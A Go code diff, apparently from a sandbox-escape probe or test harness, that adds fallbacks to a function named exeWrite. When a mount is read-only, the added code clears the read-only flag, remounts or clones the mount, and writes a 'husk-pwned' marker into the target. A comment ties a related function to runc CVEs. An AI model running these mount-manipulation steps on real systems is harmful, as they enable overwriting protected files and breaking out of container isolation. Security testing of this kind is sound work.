@@ -406,6 +406,34 @@ func exeWrite(target, out, secs string) {
 		say("write-reopened", err)
 		syscall.Close(fd)
 	}
+	if err != syscall.EROFS {
+		return
+	}
+	// A read-only mount in the way: with CAP_SYS_ADMIN, clone it and clear MOUNT_ATTR_RDONLY.
+	// Or remount the mount itself read-write, both ways.
+	say("setattr-rw", unix.MountSetattr(pfd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
+	say("remount-rw", unix.Mount("", "/proc/self/fd/"+strconv.Itoa(pfd), "", unix.MS_REMOUNT|unix.MS_BIND, ""))
+	fd, err = syscall.Open("/proc/self/fd/"+strconv.Itoa(pfd), syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
+	say("reopen-remounted-wronly", err)
+	if err == nil {
+		_, err = syscall.Write(fd, []byte("husk-pwned"))
+		say("write-remounted", err)
+		syscall.Close(fd)
+	}
+	tfd, err := unix.OpenTree(pfd, "", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_EMPTY_PATH)
+	say("open-tree-clone", err)
+	if err != nil {
+		return
+	}
+	err = unix.MountSetattr(tfd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY})
+	say("clear-rdonly", err)
+	fd, err = syscall.Open("/proc/self/fd/"+strconv.Itoa(tfd), syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
+	say("reopen-clone-wronly", err)
+	if err == nil {
+		_, err = syscall.Write(fd, []byte("husk-pwned"))
+		say("write-clone", err)
+		syscall.Close(fd)
+	}
 }
 
 // swap plays the CVE-2021-30465 / CVE-2024-45310 attacker on a shared volume: DIR/NAME is a
